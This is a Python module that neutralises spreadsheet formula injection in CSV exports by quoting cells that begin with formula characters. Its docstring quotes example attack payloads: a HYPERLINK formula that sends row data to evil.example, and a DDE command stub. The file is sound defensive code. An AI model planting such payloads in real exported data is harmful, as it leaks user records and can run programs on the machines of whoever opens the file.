"""The one rule for cells of every CSV the install writes (the console's export and the logs
API's): a cell a spreadsheet would run as a formula is written as text.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with = + - @ (and, after
trimming, a tab or a carriage return) as a formula: `=HYPERLINK("https://evil.example/?"&A2,
"Click")` in a user id sends the row to the attacker when support clicks it, and `=cmd|…` can
start programs through DDE. OWASP's remedy: put a single quote before such a cell, which the
spreadsheet shows as text and does not evaluate.

A plain number is not a formula, so it is left readable: E.164 phone numbers (`+447700900123`)
and negative numbers (`-5`, `-0.25`). `defusedcsv` was considered: it quotes `+447700900123`
too (its exception is only for an optional minus), rewrites `|` inside cells to `\\|`, and
lets a leading tab or carriage return through, so it is not used.
"""

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A leading sign followed only by digits (and one decimal part): a number, never a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def csv_cell(value) -> str:
    """`value` as a CSV cell no spreadsheet runs as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_row(values: Iterable) -> list[str]:
    return [csv_cell(value) for value in values]
